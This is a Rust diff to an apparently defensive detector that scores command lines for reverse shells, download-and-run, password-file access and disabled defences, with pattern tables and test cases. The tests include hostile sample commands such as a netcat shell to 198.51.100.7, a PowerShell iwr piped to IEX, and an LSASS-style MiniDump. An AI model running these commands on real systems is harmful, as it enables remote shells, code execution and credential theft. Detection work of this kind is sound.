@@ -10,6 +10,7 @@ use alert::{Alert, Class, Untrusted};
 use crate::template;
 
 mod line;
+mod shell;
 
 /// How sure one sign is, 1 to 100. Not so sure that an analyst could not call it a test of the defences, or an administrator's odd habit.
 const STRENGTH: u8 = 45;
@@ -33,13 +34,8 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["socket", "connect", "dup2"], HANDS_A_SHELL),
     (&["socket", "connect", "pty.spawn"], HANDS_A_SHELL),
     (&["tcpclient", "getstream", "iex"], HANDS_A_SHELL),
-    (&["nc ", " -e "], HANDS_A_SHELL),
-    (&["ncat ", " -e "], HANDS_A_SHELL),
-    (&["ncat ", "--exec"], HANDS_A_SHELL),
     (&["socat ", "exec:"], HANDS_A_SHELL),
     (&["mkfifo ", "nc "], HANDS_A_SHELL),
-    (&["downloadstring", "iex"], RUNS_FROM_ELSEWHERE),
-    (&["downloadstring", "invoke-expression"], RUNS_FROM_ELSEWHERE),
     (&["certutil", "-urlcache", "http"], RUNS_FROM_ELSEWHERE),
     (&["mshta", "http"], RUNS_FROM_ELSEWHERE),
     (&["regsvr32", "/i:http"], RUNS_FROM_ELSEWHERE),
@@ -62,26 +58,17 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["set-mppreference", "-disable", "true"], REMOVES_TRACES),
 ];
 
+/// How PowerShell fetches text, and how it runs one.
+const FETCHES: &[&str] =
+    &["downloadstring", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];
+const RUNS: &[&str] = &["iex", "invoke-expression"];
+
 const HANDS_A_SHELL: &str = "the command hands a shell to another machine";
 const RUNS_FROM_ELSEWHERE: &str = "the command runs what it fetches from elsewhere";
 const HIDES_WHAT_RUNS: &str = "the command hides what it runs";
 const TAKES_PASSWORDS: &str = "the command takes stored passwords";
 const REMOVES_WAYS_BACK: &str = "the command removes the ways back to saved data";
 const REMOVES_TRACES: &str = "the command removes traces or switches off a defence";
-
-/// What is dangerous only if a shell takes it through a pipe.
-const PIPED: &[(&str, &str)] = &[
-    ("curl ", RUNS_FROM_ELSEWHERE),
-    ("wget ", RUNS_FROM_ELSEWHERE),
-    ("base64 -d", HIDES_WHAT_RUNS),
-    ("base64 --decode", HIDES_WHAT_RUNS),
-];
-
-/// Programs that run what they are given.
-const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "ksh", "zsh"];
-
-/// Programs that run another one, whose name follows theirs.
-const WRAPPERS: &[&str] = &["sudo", "env", "nohup", "exec"];
 
 /// Where Linux keeps passwords.
 const PASSWORDS: &str = "/etc/shadow";
@@ -118,27 +105,17 @@ fn sign(line: &str) -> Option<(usize, &'static str)> {
         let all = words.iter().all(|word| place(line, word).is_some());
         words.first().filter(|_| all).and_then(|word| Some((place(line, word)?, *reason)))
     });
-    let by_pipe = || {
-        PIPED.iter().find_map(|(word, reason)| {
-            let at = place(line, word)?;
-            // `a || b` runs b if a fails; nothing goes from one to the other.
-            let rest = line.get(at..)?.replace("||", ";");
-            let mut piped = rest.split('|').skip(1);
-            piped.any(|part| SHELLS.contains(&program(part, WRAPPERS))).then_some((at, *reason))
-        })
-    };
-    by_words.or_else(by_pipe).or_else(|| Some((passwords(line)?, TAKES_PASSWORDS)))
+    by_words
+        .or_else(|| shell::netcat(line))
+        .or_else(|| shell::unread(line))
+        .or_else(|| fetched(line))
+        .or_else(|| Some((passwords(line)?, TAKES_PASSWORDS)))
 }
 
-/// Names the program that a piece of a command line runs, without its folder; `skipped` are those that only run another one.
-fn program<'a>(part: &'a str, skipped: &[&str]) -> &'a str {
-    let names = part.split([' ', '\'', '"', '&', ';', ')']).filter(|word| !word.is_empty());
-    names
-        // Options of the program that was skipped (`sudo -E`, `sh -c`), and what it sets (`env A=1`).
-        .filter(|word| !word.starts_with('-') && !word.contains('='))
-        .map(|word| word.rsplit('/').next().unwrap_or(word))
-        .find(|name| !skipped.contains(name))
-        .unwrap_or_default()
+/// Finds where PowerShell runs what it fetches. Both are whole words: programs have names that begin with them.
+fn fetched(line: &str) -> Option<(usize, &'static str)> {
+    let at = FETCHES.iter().find_map(|word| whole_place(line, word))?;
+    RUNS.iter().any(|word| whole_place(line, word).is_some()).then_some((at, RUNS_FROM_ELSEWHERE))
 }
 
 /// Finds where the file of passwords, or the copy that is kept of it, is named by a program that may open it.
@@ -152,19 +129,31 @@ fn passwords(line: &str) -> Option<usize> {
         }
         let before = line.get(..*at).unwrap_or_default();
         let part = before.rsplit(['|', ';', '&', '(', '`', '<', '>']).next().unwrap_or_default();
-        let is_skipped: Vec<&str> = WRAPPERS.iter().chain(SHELLS).copied().collect();
-        !ONLOOKERS.contains(&program(part, &is_skipped))
+        !ONLOOKERS.contains(&shell::program(part, true))
     })
 }
 
 /// Finds a word where it is not the end of another.
 fn place(line: &str, word: &str) -> Option<usize> {
-    let begins = word.starts_with(|first: char| first.is_ascii_alphanumeric());
-    let is_whole = |at: &usize| {
-        let before = line.get(..*at).and_then(|before| before.chars().next_back());
-        !(begins && before.is_some_and(|before| before.is_ascii_alphanumeric()))
+    line.match_indices(word).map(|(at, _)| at).find(|at| begins_word(line, *at))
+}
+
+/// Finds a word where it is neither the end nor the beginning of another.
+fn whole_place(line: &str, word: &str) -> Option<usize> {
+    let ends = |at: usize| {
+        let after = line.get(at + word.len()..).and_then(|after| after.chars().next());
+        !after.is_some_and(|after| after.is_ascii_alphanumeric())
     };
-    line.match_indices(word).map(|(at, _)| at).find(is_whole)
+    line.match_indices(word).map(|(at, _)| at).find(|at| begins_word(line, *at) && ends(*at))
+}
+
+/// Tells whether a word begins at a place, rather than goes on. What begins with a sign begins anywhere.
+fn begins_word(line: &str, at: usize) -> bool {
+    let begins = line
+        .get(at..)
+        .is_some_and(|text| text.starts_with(|first: char| first.is_ascii_alphanumeric()));
+    let before = line.get(..at).and_then(|before| before.chars().next_back());
+    !(begins && before.is_some_and(|before| before.is_ascii_alphanumeric()))
 }
 
 #[cfg(test)]
@@ -209,6 +198,9 @@ mod tests {
             "sh -c 'stat /etc/shadow; cat /etc/shadow'",
             "cat /etc/shadow-",
             "powershell.exe -nop -w hidden -enc SQBFAFgA",
+            "powershell -c iwr -useb http://198.51.100.7/a | IEX",
+            "bash -c 'bash <(curl -s http://198.51.100.7/a)'",
+            "sudo -u bob nc 198.51.100.7 9 -e /bin/sh",
             "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full",
         ] {
             let (behaviour, reason) = told(&sudo(command));
@@ -224,6 +216,8 @@ mod tests {
             "/bin/sh -c curl -s https://example.org/a | sha256sum",
             "/bin/sh -c curl -sf https://example.org/health || sh /opt/restart.sh",
             "/usr/bin/stat -c %a /etc/shadow",
+            "sudo -u root stat /etc/shadow",
+            "powershell -c iwr https://example.org/a.zip -outfile a.zip; iexplore.exe a",
             "/bin/sh -c 'ls -l /etc/shadow /etc/shadow-'",
             "/usr/bin/cat /etc/shadowsocks-libev/config.json",
         ] {
